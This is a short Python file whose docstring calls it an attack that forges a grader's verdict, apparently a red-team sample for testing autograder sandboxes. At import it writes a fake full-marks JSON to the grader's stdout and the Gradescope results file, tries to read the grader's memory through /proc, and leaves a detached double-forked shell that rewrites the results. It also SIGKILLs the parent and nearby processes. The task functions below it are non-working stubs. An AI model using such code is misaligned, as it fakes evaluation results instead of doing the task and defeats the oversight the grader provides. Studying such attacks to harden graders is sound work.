"""Attack (forge the verdict): write a full-marks JSON into the grader's stdout and the
Gradescope results file, kill the grader and the fork server, read the grader's memory,
and leave a helper (setsid, double fork, exec with an empty environment) behind."""
import json
import os
import signal

RESULTS = "__RESULTS__"
FAKE = json.dumps({"score": 171, "tests": [], "forged": True})

for path in (f"/proc/{os.getppid()}/fd/1", RESULTS):
    try:
        with open(path, "w") as handle:
            handle.write(FAKE)
    except OSError:
        pass
try:
    open(f"/proc/{os.getppid()}/mem", "rb").read(1)
except OSError:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sh", ["sh", "-c", f"sleep 3; echo '{FAKE}' > {RESULTS}"], {})
        os._exit(0)
except OSError:
    pass
for pid in [os.getppid()] + [os.getpid() + step for step in range(-20, 21) if step]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def soft_threshold(mu, lam):
    return mu


def l1_l2_scalar_optimum(lam):
    return (0.0, 0.0)


def lasso_ista(X, y, lam, n_iter=1000, lr=None):
    return X[0] * 0
